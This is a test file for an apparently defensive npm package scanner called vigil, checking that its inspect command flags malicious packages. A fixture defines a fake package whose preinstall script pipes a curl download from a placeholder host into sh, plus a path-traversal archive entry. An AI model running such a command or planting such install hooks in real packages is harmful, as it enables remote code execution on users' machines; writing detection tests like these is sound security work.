import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inspect } from '../../src/app/inspect.js';
import { parseNpmSpec } from '../../src/core/npm-spec.js';
import { inspectCommand } from '../../src/cli/commands/inspect.js';
import { isVigilError } from '../../src/core/errors.js';
import type { NpmSource } from '../../src/engine/types.js';
import { makeTgz } from '../archive/helpers.js';
import { CONTENT_FIXTURES } from './helpers.js';

const evilTgz = () =>
  makeTgz([
    {
      name: 'package/package.json',
      body: JSON.stringify({ name: 'evil', version: '2.0.0', scripts: { preinstall: 'curl -s https://dl.example.invalid/x | sh' } }),
    },
    { name: 'package/index.js', body: 'module.exports = 1;' },
    { name: '../escape.js', body: 'x' },
  ]);

test('inspect a directory: ScanResult with findings and facts keyed by the purl', async () => {
  const r = await inspect(CONTENT_FIXTURES + 'reverse-shell-install', { cwd: '/' });
  assert.equal(r.command, 'inspect');
  assert.equal(r.inventory.components[0]?.purl, 'pkg:npm/fixture-reverse-shell-install@1.0.0');
  assert.equal(r.summary.findings.critical, 1, 'one behaviour, one finding: the reverse-shell chain');
  const facts = r.facts['content']?.['pkg:npm/fixture-reverse-shell-install@1.0.0'] as { installScripts: { event: string }[] };
  assert.equal(facts.installScripts[0]?.event, 'postinstall');
  assert.ok(
    r.findings.every((f) => f.fingerprint),
    'result is finalized',
  );
});

test('inspect a local .tgz: npm prefix handled, unsafe entry and download-exec flagged', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-inspect-'));
  try {
    writeFileSync(join(dir, 'evil-2.0.0.tgz'), await evilTgz());
    const r = await inspect('evil-2.0.0.tgz', { cwd: dir });
    assert.equal(r.target.path, 'evil-2.0.0.tgz');
    const rules = r.findings.map((f) => `${f.severity} ${f.rule}`).sort();
    assert.deepEqual(rules, ['critical content/remote-code', 'high content/unsafe-archive-entry']);
    assert.equal(r.inventory.components[0]?.purl, 'pkg:npm/evil@2.0.0');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('inspect npm:name@range resolves through the npm source (no network: an in-memory source)', async () => {
  const tgz = await evilTgz();
  const calls: string[] = [];
  const npm: NpmSource = {
    registryUrl: () => 'http://127.0.0.1:9/',
    async getPackument(name) {
      calls.push(`packument ${name}`);
      const v = (version: string) => ({
        name,
        version,
        dist: { tarball: `http://127.0.0.1:9/${name}-${version}.tgz`, integrity: 'sha512-x' },
        raw: {},
      });
      return { name, distTags: { latest: '2.0.0' }, versions: { '1.0.0': v('1.0.0'), '2.0.0': v('2.0.0') } } as never;
    },
    async getTarball(name, version, opts) {
      calls.push(`tarball ${name}@${version} ${opts.integrity}`);
      return { bytes: tgz, integrity: 'sha512-x', fromCache: false };
    },
  };
  const r = await inspect('npm:evil@^2', { cwd: '/', npm });
  assert.deepEqual(calls, ['packument evil', 'tarball evil@2.0.0 sha512-x']);
  assert.equal(r.inventory.components[0]?.purl, 'pkg:npm/evil@2.0.0');
  assert.ok(r.findings.some((f) => f.rule === 'content/remote-code'));
  await assert.rejects(
    inspect('npm:evil@^9', { cwd: '/', npm }),
    (e: unknown) => isVigilError(e, 'E_INPUT_NOT_FOUND') && /no version matches "\^9"/.test(e.message),
  );
});

test('inspect errors: npm spec without a client, missing path, corrupt archive, bad spec', async () => {
  await assert.rejects(inspect('npm:left-pad@1.3.0', { cwd: '/' }), (e: unknown) => isVigilError(e, 'E_UNSUPPORTED'));
  await assert.rejects(inspect('no/such/file.tgz', { cwd: '/tmp' }), (e: unknown) => isVigilError(e, 'E_INPUT_NOT_FOUND'));
  await assert.rejects(inspect(join(CONTENT_FIXTURES, '..', 'archive', 'corrupt', 'truncated.tgz'), { cwd: '/' }), (e: unknown) =>
    isVigilError(e, 'E_ARCHIVE'),
  );
  assert.throws(
    () => parseNpmSpec('npm:'),
    (e: unknown) => isVigilError(e, 'E_USAGE'),
  );
  assert.deepEqual(parseNpmSpec('npm:@scope/pkg@1.2.3'), { name: '@scope/pkg', want: '1.2.3' });
  assert.deepEqual(parseNpmSpec('npm:pkg'), { name: 'pkg', want: 'latest' });
  assert.equal(parseNpmSpec('./dir'), undefined);
});

test('inspect command: local spec runs without opening the store; missing SPEC is a usage error', async () => {
  const base = { cwd: CONTENT_FIXTURES, stdout: process.stdout, stderr: process.stderr, events: () => {}, env: {} };
  const out = await inspectCommand.run({ ...base, options: { values: {}, sources: {}, positionals: ['jsfuck'] } });
  assert.equal(out.kind, 'result');
  assert.ok(out.kind === 'result' && out.result.findings.some((f) => f.rule === 'content/obfuscated-code'));
  await assert.rejects(inspectCommand.run({ ...base, options: { values: {}, sources: {}, positionals: [] } }), (e: unknown) =>
    isVigilError(e, 'E_USAGE'),
  );
});
